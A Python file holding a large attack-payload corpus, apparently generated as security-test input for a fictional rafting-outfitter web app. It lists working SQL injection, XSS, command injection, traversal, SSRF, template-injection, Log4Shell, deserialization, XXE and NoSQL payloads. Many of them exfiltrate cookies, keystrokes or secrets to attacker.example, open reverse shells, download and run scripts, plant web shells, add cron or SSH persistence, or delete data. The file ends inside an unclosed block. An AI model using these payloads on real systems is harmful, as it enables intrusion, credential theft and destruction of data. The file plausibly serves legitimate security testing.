#!/usr/bin/env python3
"""Attack corpus for the rafting outfitter theme. Standard library only.

Literal payloads live in the BLOCKS below, one per line: class<TAB>value.
Inside values: the glyph RETURN-SYMBOL stands for \\n, CR-SYMBOL for \\r, TAB-ARROW for \\t
(so that payloads with raw backslashes need no escaping).
"""
import json
import os
import random

SEED = 30702
HERE = os.path.dirname(os.path.abspath(__file__))
NL, CR, TB = "\u23ce", "\u240d", "\u21e5"   # ⏎ ␍ ⇥


def parse(block):
    out = []
    for line in block.strip("\n").split("\n"):
        if not line.strip():
            continue
        cls, val = line.split("\t", 1)
        val = val.replace(NL, "\n").replace(CR, "\r").replace(TB, "\t")
        out.append((cls, val))
    return out


SQLI = r'''
tautology	BK-22841' OR '1'='1
tautology	Upper' OR 1=1-- -
union	O'Malley' UNION SELECT login, password_hash FROM staff_users--
union	T-1001' UNION ALL SELECT NULL,NULL,card_number,NULL FROM payments-- 
blind-boolean	BK-40021' AND SUBSTRING((SELECT password FROM staff WHERE login='ana.ruiz'),1,1)='a'--
blind-time	Lower' AND SLEEP(5)-- 
blind-time	1 AND (SELECT 1 FROM (SELECT SLEEP(7))rq)
blind-time	2025-07-19'; SELECT pg_sleep(6)--
blind-time	Marco'; WAITFOR DELAY '0:0:8'--
stacked	R-14'; DROP TABLE gear_inventory;--
stacked	BK-30112'; UPDATE bookings SET paid=1, amount_due=0 WHERE ref='BK-30112';--
error-based	1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- 
error-based	Upper' AND updatexml(null,concat(0x3a,(SELECT user())),null)-- x
error-based	Ana' AND 1=CONVERT(int,(SELECT TOP 1 email FROM guests))--
column-enum	Upper' ORDER BY 7-- -
comment-as-space	Upper'/**/UNION/**/SELECT/**/login,pw/**/FROM/**/staff#
case-mixing	lower' uNiOn SeLeCt 1,@@version,3-- -
versioned-comment	x' /*!50000UNION*/ /*!50000SELECT*/ table_name,2 FROM information_schema.tables-- -
no-space	Jess'or(select(count(*))from(staff))>0#
schema-enum	' UNION SELECT column_name,NULL FROM information_schema.columns WHERE table_name='waivers'-- 
schema-enum	Lower' UNION SELECT name, sql FROM sqlite_master--
blind-boolean	R-07' AND (SELECT CASE WHEN (substr(sqlite_version(),1,1)='3') THEN 1 ELSE abs(-9223372036854775808) END)=1--
error-based	1 AND 1=CAST((SELECT string_agg(email,',') FROM guests) AS int)
stacked-rce	x'; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/p|sh';--
stacked-rce	BK-1'; EXEC master..xp_cmdshell 'ping -n 3 203.0.113.7';--
file-write	' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/gauge.php'-- -
file-read	Upper' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -
tautology	312 OR 1=1
union	2 UNION SELECT 1,group_concat(login,0x3a,pw) FROM staff
blind-time	Ana' AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B, information_schema.columns C)>0-- 
blind-time	Kwame' AND BENCHMARK(20000000,MD5('raft'))-- -
oob	x'; DECLARE @h varchar(99); SELECT @h=(SELECT TOP 1 pw FROM staff); EXEC('master..xp_dirtree "\\'+@h+'.attacker.example\a"');--
oob	' || UTL_HTTP.REQUEST('http://attacker.example/o?'||(SELECT user FROM dual)) || '
error-based	' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT banner FROM v$version WHERE rownum=1))-- 
tautology	Marco" OR ""="
tautology	Dana") OR ("1"="1
union	%' AND 1=0 UNION SELECT guest_name, phone FROM bookings WHERE '%'='
order-by	(CASE WHEN (SELECT substr(pw,1,1) FROM staff LIMIT 1)='a' THEN trip_date ELSE section END)
order-by	trip_date,(select sleep(4))
limit-clause	10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x5c,VERSION())),1)
insert-context	great trip, thanks', (SELECT password FROM staff LIMIT 1))-- 
auth-bypass	ana.ruiz'-- 
auth-bypass	marco' OR 'a'='a' LIMIT 1-- -
escape-bypass	Ellis\' OR 1=1-- 
wide-char	Gomez%bf%27 OR 1=1-- 
double-urlencode	Upper%2527%2520OR%25201%253D1--%2520
urlencode-hand	Lower%27%20UNION%20SELECT%20NULL%2Cemail%20FROM%20guests--
fullwidth	Upper＇ OR ＇1＇=＇1＇--
unicode-escape	{"section":"Upper\u0027 UNION SELECT login,pw FROM staff-- -"}
hex-literal	x' UNION SELECT 1,password FROM staff WHERE login=0x616e612e7275697a-- -
char-func	' OR guide=CHAR(109,97,114,99,111) AND 1=1 UNION SELECT pin,2 FROM guides-- 
blind-time	Upper' AND IF(ASCII(SUBSTRING(DATABASE(),1,1))>100,SLEEP(3),0)-- -
blind-error	T-1001' AND 1=(SELECT CASE WHEN (current_user='postgres') THEN 1 ELSE 1/0 END)-- 
stacked	x'; INSERT INTO staff(login,pw,role) VALUES('riverrat','x','admin');--
newline-space	Jess'⏎OR⏎1=1⏎--
tab-space	Lin'⇥UNION⇥SELECT⇥email,phone⇥FROM⇥guests--⇥
encoded-newline	Rob'%0aUNION%0aSELECT%0alogin,pw%0aFROM%0astaff--
csv-import	T-1107,2025-07-25,Upper' UNION SELECT guide_pin,2,3 FROM guides--,6,Ana
stacked	Dana Nguyen'); DELETE FROM waivers WHERE ('1'='1
error-based	' GROUP BY section HAVING 1=1-- 
blind-heavy	Lower' AND 1=randomblob(500000000)-- 
oob	'; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.9;uid=sa;pwd=x','SELECT 1')--
stacked	x'; CREATE TABLE t(o text); COPY t FROM $$/etc/passwd$$;--
blind-time	' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('rf',6)-- 
scientific-notation	1e0UNION SELECT 1,pw FROM staff
concat-oracle	Upper'||(SELECT password FROM staff WHERE ROWNUM=1)||'
error-based	R-14' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT((SELECT pw FROM staff LIMIT 1),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- 
blind-boolean	guest' AND ascii(substr((select pw from staff where id=1),2,1)) BETWEEN 96 AND 110-- 
stacked	Upper'; SHUTDOWN WITH NOWAIT;--
stacked	'; ALTER USER river WITH SUPERUSER;--
stacked	Group of 6, Upper run'); DROP TABLE trip_exports; --
json-operator	Upper' AND JSON_EXTRACT((SELECT JSON_OBJECT('p',pw) FROM staff LIMIT 1),'$.p') LIKE 'a%'-- -
like-wildcard	BK-%' OR ref LIKE '%
'''

XSS = r'''
script-tag	Loved the trip!! <script>fetch('https://attacker.example/c?k='+document.cookie)</script>
img-onerror	<img src=x onerror=alert(document.domain)>
svg-onload	Great guide Marco <svg/onload=confirm(1)>
details-ontoggle	<details open ontoggle="location='//attacker.example/?'+document.cookie">
iframe-srcdoc	<iframe srcdoc="&lt;script&gt;parent.alert(origin)&lt;/script&gt;"></iframe>
js-uri	<a href="javascript:fetch('//attacker.example/'+localStorage.token)">see photos</a>
markdown-link	[trip photos](javascript:alert(document.cookie))
attr-breakout	Upper" onmouseover="alert(1)" x="
attr-breakout	O'Malley' autofocus onfocus='alert(document.domain)
js-string	';alert(document.domain);//
js-string	"-prompt(1)-"
template-literal	${alert(document.cookie)}`</script><script>alert(1)</script>
entity-encoded	<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>
hex-entity	<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)">waiver</a>
urlencode-hand	%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E
double-urlencode	%253Csvg%2520onload%253Dalert(1)%253E
js-unicode-escape	<script>\u0061lert(document.cookie)</script>
fullwidth	＜script＞alert(1)＜/script＞
data-uri	<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydChvcmlnaW4pPC9zY3JpcHQ+"></iframe>
remote-script	Booking for 4 <script src=//attacker.example/r.js></script>
base-tag	<base href="https://attacker.example/">
meta-refresh	<meta http-equiv="refresh" content="0;url=https://attacker.example/login">
css-import	<style>@import'//attacker.example/x.css';</style>
svg-animate	<svg><animate onbegin=alert(1) attributeName=x dur=1s>
math-href	<math><mtext><a xlink:href="javascript:alert(1)">click</a></mtext></math>
form-action	<form action=https://attacker.example/steal><input name=pw type=password placeholder="Re-enter staff password"><button>OK</button></form>
formaction	<button formaction=javascript:alert(1)>Rebook</button>
input-autofocus	<input autofocus onfocus=alert(document.domain)>
video-onerror	<video><source onerror="alert(1)"></video>
body-event	<body onpageshow=alert(1)>
marquee	<marquee onstart=alert(document.cookie)>flood warning</marquee>
object-data	<object data="javascript:alert(1)"></object>
embed-src	<embed src="data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>">
csti-angular	{{constructor.constructor('alert(document.cookie)')()}}
csti-vue	{{_c.constructor('alert(1)')()}}
dom-clobbering	<form id=config><input name=apiUrl value=//attacker.example/></form>
textarea-breakout	</textarea><script>alert(1)</script>
title-breakout	</title><svg onload=alert(1)>
comment-breakout	--><img src=x onerror=alert(1)>
case-mixing	<ScRiPt>alert(1)</sCrIpT>
tab-in-scheme	<a href="jav&#x09;ascript:alert(1)">photos</a>
newline-in-scheme	<a href="java⏎script:alert(1)">gauge</a>
colon-entity	<a href="javascript&colon;alert(1)">map</a>
nested-strip	<scr<script>ipt>alert(1)</scr</script>ipt>
null-byte	<scr%00ipt>alert(1)</scr%00ipt>
no-quotes	<svg onload=alert(String.fromCharCode(88,83,83))>
eval-atob	<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>
keylogger	<script>document.onkeypress=function(e){new Image().src='//attacker.example/k?'+e.key}</script>
svg-script	<svg><script>alert&#40;1&#41;</script></svg>
xlink	<svg><a xlink:href="javascript:alert(2)"><text x=20 y=20>Open waiver</text></a></svg>
set-animate	<svg><set attributeName=onmouseover to=alert(1)><rect width=100 height=100/></svg>
onanimationstart	<style>@keyframes k{}</style><p style="animation-name:k" onanimationstart=alert(1)>Upper</p>
srcset	<img srcset=",,,x" onerror=alert(1)>
iframe-js	<iframe src=javascript:alert(document.domain)>
backticks	<img src=x onerror=alert`1`>
throw-handler	<img src=x onerror="window.onerror=alert;throw 1">
setTimeout-string	<img src=1 onerror=setTimeout('ale'+'rt(1)')>
json-breakout	{"note":"</script><script>alert(1)</script>"}
onclick-link	<a onclick="document.location='https://attacker.example/?'+document.cookie" href=#>Click for refund</a>
regex-source	<img src=x:x onerror=top[/al/.source+/ert/.source](document.domain)>
xml-namespace	<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
noscript-breakout	<noscript><p title="</noscript><img src=x onerror=alert(1)>">
html-entities-full	&lt;img src=x onerror=alert(1)&gt;
utf7	+ADw-script+AD4-alert(1)+ADw-/script+AD4-
svg-foreign	<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
import-module	<script type=module>import('//attacker.example/m.js')</script>
onresize	<body onresize=alert(1)>
contenteditable	<div contenteditable onblur=alert(1)>Edit your review</div>
ontoggle-popover	<button popovertarget=p>x</button><div id=p popover ontoggle=alert(1)>y</div>
link-prefetch	<link rel=stylesheet href=//attacker.example/theft.css>
window-name	<script>window.name='';location='//attacker.example/?'+btoa(document.body.innerHTML)</script>
percent-u	%u003Cscript%u003Ealert(1)%u003C/script%u003E
event-no-paren	<svg onload=location=`javas`+`cript:ale`+`rt%281%29`>
'''

CMDI = r'''
separator	2.8; cat /etc/passwd
pipe	03453500 | id
and	gauge.local && curl http://attacker.example/x.sh | sh
subshell	$(cat /etc/shadow)
backticks	R-14.jpg `whoami`
encoded-newline	203.0.113.1%0aid
ifs	;cat${IFS}/etc/passwd
brace-expansion	;{cat,/etc/hosts}
download-exec	; wget -qO- http://attacker.example/s | bash
reverse-shell	; bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'
reverse-shell	| nc 198.51.100.23 9001 -e /bin/sh
reverse-shell	; python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
powershell	& powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/r.ps1')"
windows-cmd	waiver.pdf & type C:\Windows\win.ini
pipe	Marco | whoami
time-based	|| ping -c 10 127.0.0.1
time-based	; sleep 10 ;
quote-split	;c'a't /et'c'/pass'wd'
backslash-split	;w\ho\am\i
dollar-at	;who$@ami
glob	;/???/??t /???/p??s??
base64	; echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh
printf-hex	;$(printf '\x69\x64')
var-slice	;cat${PATH:0:1}etc${PATH:0:1}passwd
literal-newline	Lower run⏎id
imagemagick	|convert -size 1x1 xc:white /var/www/html/gauge.php
arg-injection	--output=/var/www/html/shell.php
arg-injection	-oProxyCommand=curl${IFS}attacker.example|sh
tar-checkpoint	--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh
find-exec	trips -exec sh -c 'id > /tmp/o' ;
git-upload	--upload-pack=touch /tmp/pwned
curl-arg	-o /var/www/html/up.php http://attacker.example/up.txt
comspec	& %COMSPEC% /c dir C:\
caret	& w^h^o^a^m^i
powershell-enc	| powershell -enc JABjAD0AIgBpAGQAIgA=
cmd-set	& set /p=pwn< nul > C:\inetpub\wwwroot\p.txt
semicolon-nospace	;id;
nested-subshell	$( $(echo Y3VybA== | base64 -d) attacker.example )
process-sub	>(curl attacker.example)
redirection	; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEkeyFAKEkeyFAKEkey attacker' >> ~/.ssh/authorized_keys
cron	; echo '* * * * * root curl attacker.example|sh' > /etc/cron.d/raft
exfil	; curl -d @/etc/passwd http://attacker.example/up
exfil-dns	; nslookup $(whoami).attacker.example
exfil-dns	`dig +short $(hostname).attacker.example`
env-dump	; env | curl -X POST --data-binary @- https://attacker.example/e
perl	; perl -e 'system("id")'
ruby	; ruby -e 'exec "/bin/sh"'
php-cli	; php -r 'system($_SERVER["HTTP_X"]);'
awk	; awk 'BEGIN{system("id")}'
xargs	; echo id | xargs sh -c
hex-echo	; echo -e '\x63\x61\x74\x20\x2f\x65\x74\x63\x2f\x70\x61\x73\x73\x77\x64' | sh
rev	; echo 'di' | rev | sh
rot13	; echo 'vq' | tr a-z n-za-m | sh
url-double	2.8%253Bid
tab-ifs	;cat⇥/etc/passwd
crlf-newline	R-07␍⏎id
ampersand-bg	photo.jpg & curl attacker.example/$(id -u) &
or-chain	nonexistent || cat /etc/passwd
here-string	; bash <<< 'id'
dollar-brace	${IFS};id
sudo	; sudo -n /bin/sh -c id
kill-service	; pkill -9 nginx
rm	; rm -rf /srv/rafting/exports
chmod	; chmod 4755 /bin/bash
wget-post	;wget --post-file=/etc/shadow http://attacker.example/
certutil	& certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\a.exe & %TEMP%\a.exe
bitsadmin	& bitsadmin /transfer j http://attacker.example/b.exe C:\Users\Public\b.exe
mshta	| mshta http://attacker.example/p.hta
rundll	& rundll32 url.dll,FileProtocolHandler calc.exe
'''

TRAVERSAL = r'''
dotdot	../../../../etc/passwd
dotdot-windows	..\..\..\..\windows\win.ini
nested-strip	....//....//....//etc/passwd
encoded-slash	..%2f..%2f..%2f..%2fetc%2fpasswd
encoded-dots	%2e%2e/%2e%2e/%2e%2e/etc/shadow
double-urlencode	%252e%252e%252f%252e%252e%252fetc%252fpasswd
overlong-utf8	%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd
percent-u	%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd
encoded-backslash	..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts
null-byte	../../../../etc/passwd%00.pdf
absolute	/etc/shadow
procfs	../../../../proc/self/environ
log-poison	../../../../var/log/nginx/access.log
tomcat-semicolon	/waivers/..;/manager/html
encoded-dotdot	/photos/%2e%2e/%2e%2e/%2e%2e/etc/passwd
triple-dot	.../...//.../...//etc/passwd
unc	\\203.0.113.4\share\waiver.pdf
zip-slip	../../../../opt/rafting/static/shell.jsp
home	~/.ssh/id_rsa
dotenv	../../.env
webconfig	..\..\..\inetpub\wwwroot\web.config
php-wrapper	php://filter/convert.base64-encode/resource=../config/database.php
fullwidth	．．／．．／．．／etc／passwd
overlong-backslash	..%c1%9c..%c1%9c..%c1%9cboot.ini
fullwidth-encoded	..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd
mixed-slash	..\/..\/..\/etc/passwd
double-backslash	....\\....\\....\\windows\\win.ini
encoded-null-dir	/exports/..%00/..%00/etc/passwd
dotdot-deep	trips_week29.csv/../../../../../../../../etc/group
k8s-secret	../../../../var/run/secrets/kubernetes.io/serviceaccount/token
aws-creds	../../../../root/.aws/credentials
proc-cmdline	/proc/self/cmdline
proc-fd	../../../proc/self/fd/3
git-config	../../.git/config
windows-sam	..\..\..\..\Windows\System32\config\SAM
windows-drive	C:\Windows\System32\drivers\etc\hosts
prefix-dotdot	/srv/rafting/waivers/../../../etc/passwd
case-dotdot-win	..\..\..\WINDOWS\WIN.INI
trailing-dot	../../../etc/passwd.
slash-dot	../../../etc/./././passwd
encoded-tomcat	/gauge/..%3b/..%3b/WEB-INF/web.xml
webinf	../../WEB-INF/web.xml
photo-param	R-14/../../../../etc/hostname
unicode-dotdot	\u002e\u002e/\u002e\u002e/\u002e\u002e/etc/passwd
'''

SSRF = r'''
aws-metadata	http://169.254.169.254/latest/meta-data/iam/security-credentials/
gcp-metadata	http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
aws-ipv6	http://[fd00:ec2::254]/latest/meta-data/
decimal-ip	http://2852039166/latest/meta-data/
hex-ip	http://0xA9FEA9FE/latest/user-data
octal-ip	http://0251.0376.0251.0376/latest/meta-data/
dns-rebinding	http://169.254.169.254.rebind.attacker.example/latest/meta-data/
gopher-redis	gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20/etc/cron.d%0D%0ASAVE%0D%0A
dict	dict://127.0.0.1:11211/stats
file	file:///etc/passwd
spring-actuator	http://localhost:8080/actuator/env
ipv6-loopback	http://[::1]:9200/_cat/indices
short-ip	http://127.1/admin
zero-ip	http://0/server-status
userinfo-confusion	http://attacker.example@127.0.0.1:8080/admin
fragment-confusion	http://127.0.0.1:6379#@attacker.example/gauge.json
open-redirect	https://attacker.example/r?to=http://10.0.0.5/internal/bookings
docker-api	http://10.0.0.12:2375/containers/json
k8s-api	https://kubernetes.default.svc/api/v1/namespaces/default/secrets
router	http://192.168.1.1/cgi-bin/luci
consul	http://172.17.0.1:8500/v1/agent/self
ipv4-mapped	http://[::ffff:a9fe:a9fe]/latest/meta-data/
enclosed-alnum	http://①②⑦.⓪.⓪.①:8500/v1/kv/?recurse
ideographic-dot	http://127。0。0。1:8080/manage
jar	jar:http://attacker.example/gauge.zip!/x.xml
netdoc	netdoc:///etc/hosts
ldap	ldap://127.0.0.1:389/dc=raft,dc=local??sub?(objectClass=*)
tftp	tftp://203.0.113.8/raft.cfg
ecs-creds	http://169.254.170.2/v2/credentials/
alibaba	http://100.100.100.200/latest/meta-data/ram/security-credentials/
azure	http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/
couchdb	http://localhost:5984/_all_dbs
internal-svc	http://gauge-api.ops.svc.cluster.local/admin/flush
hex-dotted	http://0x7f.0x0.0x0.0x1:8080/
octal-whole	http://017700000001/
mixed-ip	http://127.0x0.0.01:5000/debug
ipv6-zone	http://[fe80::1%25eth0]:8080/
webhook	https://198.51.100.77/hook?next=http://169.254.169.254/latest/api/token
gopher-smtp	gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:<ops@raft.local>%0D%0ARCPT%20TO:<list@attacker.example>%0D%0ADATA%0D%0Aguest%20export%0D%0A.%0D%0A
gopher-mysql	gopher://10.0.0.20:3306/_%a3%00%00%01%85%a6%ff%01
elasticsearch	http://10.0.3.7:9200/_search?q=*&size=10000
postgrest	http://127.0.0.1:3000/staff?select=*
redis-http	http://127.0.0.1:6379/%0D%0AFLUSHALL%0D%0A
prometheus	http://localhost:9090/api/v1/status/config
url-encoded-host	http://%31%32%37%2e%30%2e%30%2e%31/admin
dotless-localhost	http://localhost./internal/exports
ical-feed	webcal://127.0.0.1:8080/internal/roster.ics
backslash-confusion	http://attacker.example\@127.0.0.1/admin
rebinding-ip	http://7f000001.a9fea9fe.rbndr.attacker.example/
kubelet	https://10.0.0.1:10250/pods
'''

CODE = r'''
ssti-jinja	Hi {{ cycler.__init__.__globals__.os.popen('id').read() }}, your trip is confirmed
ssti-jinja	{{ ''.__class__.__mro__[1].__subclasses__() }}
ssti-jinja	{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['cat','/etc/passwd'],stdout=-1).communicate() }}{% endif %}{% endfor %}
ssti-jinja	{{ request.application.__globals__.__builtins__.__import__('os').popen('curl attacker.example/j|sh').read() }}
ssti-jinja	{{ config.items() }}
ssti-jinja-filter-bypass	{{ lipsum|attr('\x5f\x5fglobals\x5f\x5f')|attr('get')('os')|attr('popen')('id')|attr('read')() }}
ssti-twig	{{['id']|filter('system')}}
ssti-twig	{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("whoami")}}
ssti-twig	{{['cat /etc/passwd']|map('passthru')|join}}
ssti-freemarker	<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
ssti-freemarker	${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder",["sh","-c","id"]).start()}
ssti-velocity	#set($rt=$class.inspect("java.lang.Runtime").type.getRuntime())$rt.exec("touch /tmp/v")
ssti-smarty	{system('cat /etc/passwd')}
ssti-smarty	{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET['c']); ?>",self::clearConfig())}
ssti-erb	<%= `id` %>
ssti-erb	<%= File.read('/etc/passwd') %>
ssti-erb	<%= system("curl attacker.example/e | sh") %>
ssti-thymeleaf	__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x
spel	${T(java.lang.Runtime).getRuntime().exec("curl http://attacker.example/s")}
spel	#{T(java.lang.System).getenv()}
ognl	%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}
ognl	${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('whoami'))}
ssti-pug	#{global.process.mainModule.require('child_process').execSync('id')}
ssti-ejs	<%= process.mainModule.require('child_process').execSync('cat /etc/passwd') %>
ssti-nunjucks	{{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}
ssti-mako	${self.module.cache.util.os.system("id")}
ssti-tornado	{% import os %}{{ os.popen("id").read() }}
ssti-django	{{ settings.SECRET_KEY }} {% debug %}
ssti-handlebars	{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return process.mainModule.require('child_process').execSync('id');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
ssti-razor	@System.Diagnostics.Process.Start("cmd.exe","/c curl attacker.example/r")
el-jsp	${pageContext.request.getSession().getServletContext().getClassLoader()}
el-jsp	${applicationScope}
mvel	@{java.lang.Runtime.getRuntime().exec('id')}
jexl	''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')
groovy	${"id".execute().text}
log4shell	Guest name: ${jndi:ldap://attacker.example:1389/a}
log4shell-obfuscated	${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://attacker.example/o}
log4shell-obfuscated	${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.4:1099/x}
log4shell-dns	${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}
log4shell-nested	${jndi:ldap://${sys:java.version}.${hostName}.attacker.example/r}
log4shell-upper	${${upper:j}${upper:n}${upper:d}${upper:i}:ldaps://attacker.example/z}
log4shell-default	${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/k}
log4shell-date	${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.50/d}
proto-pollution	{"__proto__":{"isAdmin":true}}
proto-pollution	{"constructor":{"prototype":{"role":"admin"}}}
proto-pollution-query	constructor[prototype][canRefund]=true
proto-pollution-gadget	__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('curl attacker.example|sh');//
proto-pollution-gadget	{"__proto__":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ","env":{"A":"require('child_process').execSync('id')//"}}}
csv-formula	=HYPERLINK("http://attacker.example/?d="&A2&B2,"Open waiver")
dde	=cmd|' /C calc'!A0
dde	@SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/x)'!A0
dde	+cmd|' /C notepad'!'B1'
dde	-2+3+cmd|' /C mshta http://attacker.example/h'!A0
csv-formula	=WEBSERVICE("http://attacker.example/c?"&C2)
csv-formula	=IMPORTXML(CONCAT("http://attacker.example/?v=",A1:C9),"//a")
csv-formula-tab	⇥=HYPERLINK("https://attacker.example/refund","Claim refund")
xxe	<?xml version="1.0"?><!DOCTYPE gauge [<!ENTITY x SYSTEM "file:///etc/passwd">]><gauge><site>&x;</site></gauge>
xxe-oob	<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://attacker.example/ev.dtd"> %d;]><r>&exfil;</r>
xxe-ssrf	<!DOCTYPE roster [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/">]><roster>&m;</roster>
xinclude	<trip xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></trip>
xxe-svg	<svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE svg [<!ENTITY f SYSTEM "file:///proc/self/environ">]><text>&f;</text></svg>
xxe-php-filter	<!DOCTYPE w [<!ENTITY s SYSTEM "php://filter/read=convert.base64-encode/resource=/var/www/config.php">]><w>&s;</w>
xml-bomb	<!DOCTYPE l [<!ENTITY a "raft"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><l>&d;&d;&d;&d;</l>
deser-php	O:6:"Waiver":1:{s:4:"path";s:11:"/etc/passwd";}
deser-php	a:1:{i:0;O:15:"Monolog\Handler":1:{s:6:"buffer";s:2:"id";}}
deser-java	rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGU=
deser-python-yaml	!!python/object/apply:os.system ["curl attacker.example/y | sh"]
deser-snakeyaml	!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/yaml.jar"]]]]
deser-dotnet	{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"},"MethodParameters":{"$type":"System.Collections.ArrayList","$values":["cmd","/c calc"]}}
deser-jackson	["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example:1389/Exp","autoCommit":true}]
deser-fastjson	{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://198.51.100.9:1099/o","autoCommit":true}
deser-pickle	cos⏎system⏎(S'id'⏎tR.
deser-node	{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('curl attacker.example|sh')}()"}
eval-python	__import__('os').system('cat /etc/passwd')
eval-python	2.8 + eval(compile('import os;os.system("id")','x','exec'))
eval-node	require('child_process').execSync('id').toString()
eval-php	${@system('id')}
eval-php	<?php echo shell_exec($_GET['q']); ?>
eval-ruby	#{`cat /etc/passwd`}
eval-js-function	Function('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')
'''

NOSQLI = r'''
ne-operator	{"guide": {"$ne": null}, "pin": {"$ne": null}}
gt-operator	{"login": "ana.ruiz", "password": {"$gt": ""}}
query-operator	login[$ne]=x&password[$ne]=x
where-sleep	{"$where": "sleep(5000) || true"}
regex-extract	{"login": "marco", "password": {"$regex": "^a.*"}}
js-injection	'; return true; var dummy='
or-operator	{"$or": [{}, {"ref": "BK-22841"}]}
where-role	{"section": "Upper", "$where": "this.role == 'admin' || 1==1"}
query-regex	password[$regex]=.*&login=marco
expr	{"$expr": {"$eq": [1, 1]}}
lookup	[{"$lookup": {"from": "staff", "localField": "guide", "foreignField": "login", "as": "creds"}}]
function	{"$where": {"$function": {"body": "function(){ return true }", "args": [], "lang": "js"}}}
where-js-quote	x' || '1'=='1
nin-empty	{"status": {"$nin": []}}
in-bypass	ref[$in][]=BK-22841&ref[$in][]=BK-22847&ref[$in][]=BK-30112
where-exfil	{"$where": "if (this.password.charAt(0)=='a') { sleep(3000) } return true"}
regex-dos	{"notes": {"$regex": "(a+)+$"}}
exists	{"waiver_signed": {"$exists": false}, "api_key": {"$exists": true}}
type-juggle	{"pax": {"$type": 2}, "$comment": "x", "pin": {"$gte": 0}}
mapreduce	{"mapReduce": "bookings", "map": "function(){ emit(1, db.staff.find().toArray()) }", "reduce": "function(k,v){return v}"}
where-loop	{"$where": "while(true){}"}
json-in-form	guide={"$gt":""}
